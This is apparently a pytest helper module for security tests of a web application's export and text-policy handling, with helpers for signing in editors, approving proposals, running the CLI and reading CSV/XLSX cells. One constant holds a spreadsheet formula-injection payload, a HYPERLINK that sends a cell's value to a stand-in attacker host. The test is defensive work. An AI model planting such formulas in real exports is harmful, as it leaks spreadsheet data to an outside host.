"""Helpers for the export and text-policy attacks: the web application with editors, a proposal
approved through the API, the command line in-process, and cells of CSV/XLSX bodies.

All data here is synthetic (example.org/example.net addresses, made-up statutes)."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from childsafe.app.cli import main
from childsafe.app.web import create_app
from childsafe.kernel.text import FORMULA_TRIGGERS
from tests.accounts.helpers import OPERATOR, PASSWORD

Cli = Callable[..., tuple[int, str, str]]
PROPOSAL: dict[str, Any] = {
    "edition": 8,
    "jurisdiction": "BRN",
    "criterion": "C2",
    "value": "yes",
    "citation": "Synthetic Act s. 2",
    "reason": "synthetic test data",
    "source": "https://example.org/synthetic-act",
}
FORMULA = '=HYPERLINK("http://evil.example.net/?x="&A1,"click")'
DATA_URL = "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDA=="


def editorial_app(database_url: str) -> FastAPI:
    """The application with a researcher (rita) and a reviewer (rob), both synthetic."""
    app = create_app(database_url)
    for name, role in [("rita", "researcher"), ("rob", "reviewer")]:
        app.state.accounts.create_user(OPERATOR, name, role=role, password=PASSWORD)
    return app


def signed_in(app: FastAPI, username: str) -> tuple[TestClient, str]:
    client = TestClient(app, base_url="https://testserver")
    response = client.post("/api/v1/session", json={"username": username, "password": PASSWORD})
    assert response.status_code == 200, response.text
    return client, response.json()["csrf_token"]


def base_version(client: TestClient, code: str, criterion: str) -> int | None:
    document = client.get(f"/api/v1/jurisdictions/{code}").json()
    for edition in document["editions"]:
        for cell in edition["criteria"]:
            if edition["edition"] == 8 and cell["criterion"] == criterion:
                version = cell.get("version")
                return int(version) if version is not None else None
    return None


def propose(app: FastAPI, **changes: Any) -> Any:
    """POST /api/v1/proposals as rita; the response."""
    rita, csrf = signed_in(app, "rita")
    body = PROPOSAL | changes
    body.setdefault("base_version", base_version(rita, body["jurisdiction"], body["criterion"]))
    return rita.post("/api/v1/proposals", json=body, headers={"X-CSRF-Token": csrf})


def approve(app: FastAPI, proposal_id: int) -> None:
    rob, csrf = signed_in(app, "rob")
    response = rob.post(
        f"/api/v1/proposals/{proposal_id}/decision",
        json={"approve": True},
        headers={"X-CSRF-Token": csrf},
    )
    assert response.status_code == 200, response.text


def run_cli(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, *args: str
) -> tuple[int, str, str]:
    """The command line through its real entry point: exit code, stdout, stderr."""
    monkeypatch.setattr("sys.argv", ["childsafe", *args])
    code = 0
    try:
        main()
    except SystemExit as exit_:
        code = int(exit_.code or 0)
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def csv_cells(body: bytes | str) -> list[str]:
    text = body.decode("utf-8") if isinstance(body, bytes) else body
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def xlsx_cells(body: bytes) -> list[tuple[Any, str]]:
    """(value, data type) of every cell of every sheet."""
    book = load_workbook(io.BytesIO(body))
    return [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
    ]


def starts_like_a_formula(text: str) -> bool:
    return text.lstrip(" ").startswith(FORMULA_TRIGGERS)


def terminal_controls(text: str) -> list[str]:
    """The characters of ``text`` that could drive a terminal (tab and line feed excepted)."""
    return [c for c in text if (ord(c) < 0x20 and c not in "\t\n") or 0x7F <= ord(c) <= 0x9F]
